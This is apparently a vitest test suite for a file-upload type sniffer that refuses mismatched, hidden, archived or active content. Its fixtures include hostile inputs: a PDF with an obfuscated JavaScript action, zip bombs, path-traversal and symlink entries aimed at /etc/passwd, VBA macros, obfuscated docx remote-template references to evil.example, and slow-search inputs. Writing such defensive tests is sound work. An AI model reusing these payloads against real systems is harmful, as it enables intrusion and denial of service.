import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { docx, pdf, picture, xlsx, zip } from '#test/papers.ts';
import { sniff } from './sniff.ts';
import { Refused } from './sniff-refusal.ts';

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'caseload-sniff-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const found = async (name: string, bytes: Buffer | string, declared = ''): Promise<string> => {
  const path = join(folder, 'one');
  await writeFile(path, bytes);
  return sniff(path, name, declared).then(
    ({ type }) => type,
    (error: unknown) => {
      if (error instanceof Refused) return `refused: ${error.reason}`;
      throw error;
    },
  );
};

test('UP-1 what a file is, its content says; name and browser must agree', async () => {
  const png = await picture('png');
  expect(await found('a.png', png, 'image/png')).toBe('png');
  expect(await found('a.jpg', png)).toBe('refused: mismatch');
  expect(await found('a.png', png, 'text/html')).toBe('refused: mismatch');
  expect(await found('a.htm', png)).toBe('refused: type');
  expect(await found('a', png)).toBe('refused: type');
  expect(await found('a.csv', 'a,b\n', 'application/vnd.ms-excel')).toBe('csv');
  expect(await found('a.pdf', 'just words')).toBe('refused: mismatch');
  expect(await found('a.txt', Buffer.from([0xff, 0xfe, 0x41, 0]))).toMatch(/^refused/);
  expect(await found('a.txt', 'x'.repeat(65_535) + 'é')).toBe('text');
});

test('UP-1 a telephone’s JPEG may have more behind it; a page or an archive behind a picture is refused', async () => {
  const jpeg = await picture('jpeg');
  expect(await found('a.jpg', Buffer.concat([jpeg, jpeg]))).toBe('jpeg');
  expect(await found('a.jpg', Buffer.concat([jpeg, docx()]))).toBe('refused: hidden');
  for (const format of ['png', 'gif', 'webp'] as const)
    expect(await found(`a.${format}`, Buffer.concat([await picture(format), Buffer.from('more')]))).toBe('refused: hidden');
});

test('UP-1 a PDF begins at its first byte, ends at its last, and does nothing when it is opened', async () => {
  const whole = pdf();
  expect(await found('a.pdf', Buffer.concat([whole, Buffer.from('\r\n')]))).toBe('pdf');
  expect(await found('a.pdf', Buffer.concat([Buffer.from(' '), whole]))).toBe('refused: mismatch');
  expect(await found('a.pdf', whole.subarray(0, whole.length - 20))).toBe('refused: hidden');
  expect(await found('a.pdf', pdf(['<< /S /Java#53cript /JS (app.alert(1)) >>']))).toBe('refused: active');
});

test('UP-4 an archive that unpacks to too much, holds others, links or programs is refused; a document with pictures is not', async () => {
  expect(await found('a.docx', docx([{ name: 'word/media/image1.png', data: await picture('png') }]))).toBe('docx');
  expect(await found('a.docx', docx([{ name: 'bomb', data: Buffer.alloc(60_000_000) }]))).toBe('refused: archive');
  expect(await found('a.docx', docx([{ name: 'bomb', data: Buffer.alloc(60_000_000), says: 10 }]))).toBe('refused: archive');
  expect(await found('a.xlsx', xlsx([{ name: 'xl/vbaProject.bin', data: 'x' }]))).toBe('refused: active');
  expect(await found('a.docx', docx([{ name: '../../etc/passwd', data: 'x' }]))).toBe('refused: archive');
  expect(await found('a.docx', docx([{ name: 'to', data: '/etc/passwd', link: true }]))).toBe('refused: archive');
  expect(await found('a.docx', docx([{ name: 'to', data: 'x', encrypted: true }]))).toBe('refused: encrypted');
  expect(await found('a.docx', zip([{ name: 'a.txt', data: 'x' }]))).toBe('refused: type');
});

const relationship = (type: string, more: string) =>
  `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" ${more}/>`;
const related = (data: Buffer | string) => found('a.docx', docx([{ name: 'word/_rels/document.xml.rels', data }]));

test('UP-1 a document that fetches a template or an object when it is opened is refused, however that is written; one with links is not', async () => {
  const link = relationship('hyperlink', 'Target="https://clinic.example/frame?a=&lt;b>c" TargetMode="External"');
  const inside = relationship('oleObject', 'Target="embeddings/one.xlsx"');
  expect(await related(`<Relationships>${link}${inside}${link}</Relationships>`)).toBe('docx');
  const template = relationship('attachedTemplate', 'Target="https://evil.example/a" TargetMode="External"');
  for (const data of [
    template,
    relationship('frame', 'Target="https://evil.example/a>b" TargetMode="External"'),
    template.replaceAll('"', "'"),
    template.replace('="External"', ' =\n"External"').replace('<Rel', '<r:Rel'),
    template.replace('External', '&#x45;xtern&#97;l'),
    relationship('subDocument', `Target="https://evil.example/${'a'.repeat(5_000)}" TargetMode="External"`),
    Buffer.from(template, 'utf16le'),
  ])
    expect(await related(data), String(data).slice(0, 200)).toBe('refused: active');
  expect(await found('a.docx', docx([{ name: 'word/_rels/A.RELS', data: template }]))).toBe('refused: active');
});

test('UP-4 what a document fetches is looked for in the whole of it, or it is refused', async () => {
  expect(await related(`<Relationships>${' '.repeat(400_000)}${relationship('frame', 'TargetMode="External"')}`)).toBe('refused: archive');
});

test('UP-4 a file that is written to be slow to search is searched as quickly as any other', async () => {
  const filled = (piece: string) => piece.repeat(Math.floor(190_000 / piece.length));
  const pieces = ['frame"', 'TargetMode="External"', '<Relationship frame"', '<', '&#', '&#x0', '\0', 'TargetMode="External" frame'];
  const texts = ['<svg ', '<svg', '<!doctype ', '<!doctype', '<\t', ' ', '/', '#2f', '#', 'startxref\n1\n', '%%EOF\n', '%%EOF\0'];
  const quickly = async (name: string, bytes: Buffer | string) => {
    const began = performance.now();
    await found(name, bytes);
    expect(performance.now() - began, `${name} ${String(bytes).slice(0, 60)}`).toBeLessThan(2_000);
  };
  for (const piece of pieces) await quickly('a.docx', docx([{ name: 'word/_rels/document.xml.rels', data: filled(piece) }]));
  const whole = pdf();
  for (const piece of texts) {
    await quickly('a.txt', `words\n${filled(piece)}`);
    await quickly('a.txt', `<!doctype${filled(piece)}`);
    await quickly('a.pdf', Buffer.concat([whole.subarray(0, 9), Buffer.from(filled(piece)), whole.subarray(9)]));
    await quickly('a.pdf', Buffer.concat([whole, Buffer.from(filled(piece))]));
  }
}, 60_000);
